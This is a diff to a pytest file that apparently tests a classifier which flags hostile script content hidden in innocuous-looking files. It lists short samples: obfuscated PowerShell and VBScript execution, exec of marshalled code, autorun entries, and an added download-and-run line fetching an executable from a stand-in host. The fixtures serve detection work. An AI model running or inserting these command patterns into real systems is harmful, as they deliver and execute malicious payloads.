@@ -92,7 +92,8 @@ def test_hostile_beginnings_are_linear(data):
     (b"[Desktop Entry]\nType=Application\nExec=/bin/x\n", "SCRIPT-SHELL-FILE"),
     (b"var n=['x','y'];new ActiveXObject(n[1]+n[0]);", "SCRIPT-HOST"), (b"For i=0 To 9\r\ns=s&a(i)\r\nNext\r\nExecuteGlobal s\r\n", "SCRIPT-HOST"),
     (b"-join((73,69,88)|%{[char]$_})|%{&$_ $x}", "SCRIPT-HOST"), (b"@{\r\nScriptsToProcess = 'a.ps1'\r\n}", "SCRIPT-HOST"),
-    (b"exec(marshal.loads(x))\n", "SCRIPT-SHELL"),
+    (b"exec(marshal.loads(x))\n", "SCRIPT-SHELL"), (b"iwr https://h.invalid/a -OutFile a.exe; saps a.exe\r\n", "SCRIPT-HOST"),
+    (b"[scriptblock]::Create($x).Invoke()", "SCRIPT-HOST"), (b"$b[$i]=$b[$i] -bxor 35; $t | iex\r\n", "SCRIPT-HOST"),
     (b"[autorun]\r\nopen=a.exe\r\n", "SCRIPT-SETUP"), (b"[autorun]\ropen=a.exe\r", "SCRIPT-SETUP"),
 ])
 @pytest.mark.parametrize("name", ["photo.jpg", "invoice", "a.dat"])
